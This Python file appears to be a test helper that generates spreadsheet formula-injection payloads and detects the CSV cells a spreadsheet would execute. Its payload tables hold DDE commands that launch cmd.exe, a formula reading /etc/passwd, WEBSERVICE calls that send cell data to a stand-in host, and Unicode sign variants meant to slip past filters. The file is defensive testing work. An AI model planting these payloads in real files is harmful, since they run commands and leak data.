"""Texts that a spreadsheet runs when they stand in a cell, and how a table parts such cells; nobody here exists."""

import csv
import io
import random
import unicodedata
from collections.abc import Iterator

BEFORE = (
    *("", "", "", " ", "   ", "\t", "\r", "\n", "\ufeff", "\u00a0", "\u200b", "\u200d", "\u2060", "\u200e"),
    *(
        "\u202e",
        "\u00ad",
        "\u3000",
        "\u2003",
        "\ufe0f",
        "\u3164",
        '"',
        "'",
        "Ana;",
        'Ana;"',
        "Ana\t",
        "Ana; ",
    ),
    *("Ana;\u2060", "Ana\n", '"",', "Ana,", '";', "%0A", "'; "),
)
SIGNS = ("=", "=", "=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212")
BODIES = (
    *(
        "1+{0}",
        "cmd|' /C calc'!A{0}",
        "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
        "SUM(1;{0})*cmd|' /C calc'!A0",
    ),
    *('HYPERLINK("http://example.org/{0}","open")', 'WEBSERVICE("http://example.org/?a="&A{0})'),
    *('IMPORTXML("http://example.org/{0}","//a")', 'DDE("soffice";"/etc/passwd";"A{0}")', "A{0}&B1", "{0}*7"),
    *('IMAGE("http://example.org/{0}.png")', "'file:///etc/passwd'#$passwd.A{0}", "NOW()+{0}", "RAND()+{0}"),
)
ANYTHING_RUNS = "=+-@|%"


def payloads(count: int) -> list[str]:
    """So many different payloads; the same ones in every run."""
    chance, found, number = random.Random(30), dict[str, None](), 0
    while len(found) < count:
        number += 1
        # The first ones go through every beginning and every sign.
        before = BEFORE[number % len(BEFORE)] if number % 3 else chance.choice(BEFORE)
        sign = SIGNS[number % len(SIGNS)]
        found[before + sign + BODIES[number % len(BODIES)].format(number)] = None
    return list(found)


def running(content: bytes) -> Iterator[str]:
    """Cells of a file that a spreadsheet would run, however it parts them: by commas, semicolons or tabs."""
    text = content.decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from (cell for cell in row if _runs(cell))


def _runs(cell: str) -> bool:
    """Written here anew on purpose: what is seen first decides, in whatever width."""
    seen = (
        each for each in cell if each not in ' "\ufe0f\u3164' and unicodedata.category(each)[0] not in "CZ"
    )
    return unicodedata.normalize("NFKC", next(seen, "")).replace("\u2212", "-")[:1] in tuple(ANYTHING_RUNS)
